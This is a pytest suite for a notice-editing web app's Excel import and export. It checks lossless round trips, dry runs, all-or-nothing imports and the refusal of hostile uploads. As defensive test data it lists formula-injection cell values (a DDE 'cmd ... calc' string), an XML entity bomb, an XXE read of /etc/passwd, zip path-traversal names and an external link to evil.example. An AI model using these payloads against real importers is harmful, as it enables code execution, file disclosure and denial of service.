"""The notice as a workbook: a lossless round trip, a dry run, all or nothing, nothing hostile. (reliability #19, #31)"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile

import msgspec
import pytest

pytest.importorskip("openpyxl", reason="openpyxl is not installed")
import desk_client as staff
from openpyxl import Workbook, load_workbook

from bot.desk import sheets, uploads
from knowledge import snapshot

NOTICE = snapshot.packaged_documents()[-1]


@pytest.fixture(scope="module")
def exported() -> bytes:
    return sheets.written(NOTICE)


@pytest.fixture
def app(tmp_path, monkeypatch):
    staff.quick_hashes(monkeypatch)
    return staff.made(tmp_path)


@pytest.fixture
def client(app):
    app.extensions["desk"].current()
    return staff.sign_in(app)


@pytest.fixture(scope="module")
def book(exported):
    """The workbook as a spreadsheet program has it, opened once; who changes a cell puts it back."""
    return load_workbook(io.BytesIO(exported))


def changed(data: bytes, change) -> bytes:
    book = load_workbook(io.BytesIO(data))
    change(book)
    return saved(book)


def saved(book) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def with_cell(book, one, value) -> bytes:
    """The workbook with one cell typed anew."""
    kept, one.value = one.value, value
    data = saved(book)
    one.value = kept
    return data


def cell(book, sheet: str, key: str, head: str):
    page = book[sheet]
    column = next(one.column for one in page[1] if one.value == head)
    return next(page.cell(row, column) for row in range(2, page.max_row + 1) if page.cell(row, 1).value == key)


def send(client, data: bytes, name="通知.xlsx"):
    token = staff.token(client.get("/desk/me").text)
    return client.post("/desk/excel/check", data={"csrf": token, "file": (io.BytesIO(data), name)}, headers={"Sec-Fetch-Site": "same-origin"}, content_type="multipart/form-data")


# The round trip

def test_what_goes_out_comes_back_the_same(exported):
    back = sheets.read(exported, NOTICE)
    assert back.errors == [] and back.document == NOTICE


def test_it_comes_back_the_same_through_a_spreadsheet_program(exported):
    assert sheets.read(changed(exported, lambda book: None), NOTICE).document == NOTICE


HOSTILE = [f"{start}{rest}" for start in "=+-@＝＋－＠'\t\"%&<" for rest in ("1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x\")", "a", "'b")]


def test_hostile_cells_are_text_and_come_back_the_same():
    case = next(iter(NOTICE.cases.values()))
    told = tuple(one.strip() for one in HOSTILE)
    document = msgspec.structs.replace(NOTICE, cases={f"c{number}": msgspec.structs.replace(case, must=(one,), note=one) for number, one in enumerate(told * 17)})
    data = sheets.written(document)
    book = load_workbook(io.BytesIO(data))
    cells = [one for page in book for row in page.iter_rows() for one in row if one.value is not None]
    assert len(document.cases) >= 1000 and all(one.data_type == "s" for one in cells)
    assert not [one.value for one in cells if str(one.value).startswith(tuple("=+-@\t\r\n＝＋－＠"))]
    assert sheets.read(data, NOTICE).document.cases == document.cases


# Importing

def test_a_dry_run_changes_nothing_and_the_import_takes_all(app, client):
    data = client.get("/desk/excel/export").data

    def change(book):
        cell(book, "数值", "apply_window", "数值").value = "2025-04-15 至 2025-05-20"
        book["问法"].append(["apply_window", "", "=报名到几号为止呀"])
        book["回归题"].delete_rows(2)
    answer = send(client, changed(data, change))
    # a formula in a cell is refused, the rest too
    assert answer.status_code == 400 and "公式" in answer.text and staff.in_draft(app) == NOTICE

    def better(book):
        cell(book, "数值", "apply_window", "数值").value = "2025-04-15 至 2025-05-20"
        book["问法"].append(["apply_window", "", "报名到几号为止呀"])
        book["回归题"].delete_rows(2)
    answer = send(client, changed(data, better))
    assert answer.status_code == 200 and "删除1项" in answer.text and staff.in_draft(app) == NOTICE
    form = {name: re.search(rf'name="{name}" value="([^"]*)"', answer.text)[1] for name in ("name", "revision")}
    assert staff.post(client, "/desk/excel/take", form).status_code == 303
    after = staff.in_draft(app)
    assert after.facts["apply_window"].value.closes == dt.date(2025, 5, 20)
    assert "报名到几号为止呀" in after.entries["apply_window"].phrasings and len(after.cases) == len(NOTICE.cases) - 1
    assert list((app.extensions["desk"].data / "imports").iterdir()) == []


@pytest.mark.parametrize(("sheet", "key", "head", "value", "said"), [
    ("数值", "apply_window", "数值", "2025-05-15 至 2025-04-15", "早于"),
    ("数值", "apply_window", "数值", "2025-02-30 至 2025-04-15", "没有2025年2月30日"),
    ("数值", "contributors_group", "数值", "十个", "不是整数"),
    ("数值", "phone1", "条款", "附件77", "没有“附件77”"),
    ("数值", "mail", "数值", "not a mail", "邮箱"),
    ("答复", "apply_window", "答复", "截止到5月15日。", "数字"),
    ("答复", "apply_window", "比较方式", "大概", "只能选"),
])
def test_an_error_is_told_with_sheet_and_cell(app, client, book, sheet, key, head, value, said):
    one = cell(book, sheet, key, head)
    answer = send(client, with_cell(book, one, value))
    assert answer.status_code == 400 and said in answer.text and staff.in_draft(app) == NOTICE
    assert f">{one.coordinate}<" in answer.text.replace("<td>", "<").replace("\n", "<") and sheet in answer.text


def test_a_band_with_a_gap_is_refused(app, client, book):
    page = book["名额档"]
    column = next(one.column for one in page[1] if one.value == "下限")
    assert "空缺" in send(client, with_cell(book, page.cell(3, column), "12")).text and staff.in_draft(app) == NOTICE


def test_a_draft_changed_meanwhile_is_not_overwritten(app, client, book):
    answer = send(client, with_cell(book, cell(book, "数值", "theme", "数值"), "另一个主题"))
    form = {name: re.search(rf'name="{name}" value="([^"]*)"', answer.text)[1] for name in ("name", "revision")}
    other = staff.sign_in(app, "小编")
    page = other.get("/desk/part/facts.goal").text
    values = staff.fields(page) | {"value": "别的目的", "action": "save"}
    values.pop("csrf")
    assert staff.post(other, "/desk/part/facts.goal", values).status_code == 303
    staff.post(client, "/desk/excel/take", form)
    assert staff.in_draft(app).facts["theme"].value == NOTICE.facts["theme"].value and staff.in_draft(app).facts["goal"].value == "别的目的"


# Hostile files

def packed(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def with_part(data: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.namelist():
            if part != name:
                new.writestr(part, old.read(part))
        new.writestr(name, content)
    return out.getvalue()


@pytest.fixture(scope="module")
def small() -> bytes:
    out = io.BytesIO()
    Workbook().save(out)
    return out.getvalue()


BOMB = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
PARTS = {
    "xl/vbaProject.bin": b"x", "xl/macrosheets/sheet1.xml": b"<x/>", "xl/externalLinks/externalLink1.xml": b"<x/>", "xl/connections.xml": b"<x/>",
    "xl/embeddings/oleObject1.bin": b"x", "xl/activeX/activeX1.xml": b"<x/>", "../evil.xml": b"<x/>", "/etc/evil.xml": b"<x/>", "..\\evil.xml": b"<x/>", "c:/evil.xml": b"<x/>",
    "xl/sharedStrings.xml": BOMB, "xl/workbook.xml": b'<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>', "xl/styles.xml": "<?xml version='1.0' encoding='utf-16'?><x/>".encode("utf-16"),
    "docProps/app.xml": b'<?xml version="1.0" encoding="utf-7"?><x/>', "docProps/core.xml": b"\x00<x/>",
    "xl/_rels/workbook.xml.rels": b'<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/" TargetMode="External"/></Relationships>',
}


@pytest.mark.parametrize("name", PARTS)
def test_a_hostile_part_is_refused(small, name):
    with pytest.raises(uploads.Hostile):
        uploads.look_through(with_part(small, name, PARTS[name]))


@pytest.mark.parametrize("data", [b"", b"hello", b"PK\x03\x04" + b"x" * 100, b"\xd0\xcf\x11\xe0" + b"\0" * 600, b"<html></html>"], ids=["empty", "text", "broken zip", "old xls", "html"])
def test_what_is_no_workbook_is_refused_in_words(client, data):
    answer = send(client, data)
    assert answer.status_code == 400 and "没有导入" in answer.text


def test_too_big_is_refused_packed_and_unpacked(small):
    with pytest.raises(uploads.Hostile, match="10MB"):
        uploads.look_through(b"x" * (uploads.AT_MOST + 1))
    with pytest.raises(uploads.Hostile, match="太大"):
        uploads.look_through(with_part(small, "xl/big.xml", b" " * (uploads.UNPACKED_AT_MOST + 1)))
    with pytest.raises(uploads.Hostile, match="太大"):
        uploads.look_through(packed(**{f"x{number}": b"" for number in range(uploads.PARTS_AT_MOST + 1)}))


def test_a_workbook_of_other_sheets_is_refused_in_words(client, small):
    answer = send(client, small)
    assert answer.status_code == 400 and "工作表" in answer.text


@pytest.mark.parametrize("name", ["x", "../../etc/passwd", "0" * 64, ""])
def test_only_a_file_that_was_checked_is_taken(app, client, name):
    assert staff.post(client, "/desk/excel/take", {"name": name, "revision": "0"}).status_code == 303
    assert staff.in_draft(app) == NOTICE


def test_a_huge_sparse_sheet_does_not_hold_up(exported):
    def far(book):
        book["问法"]["A1048576"].value = "x"
    data = changed(exported, far)
    assert sheets.read(data, NOTICE).errors
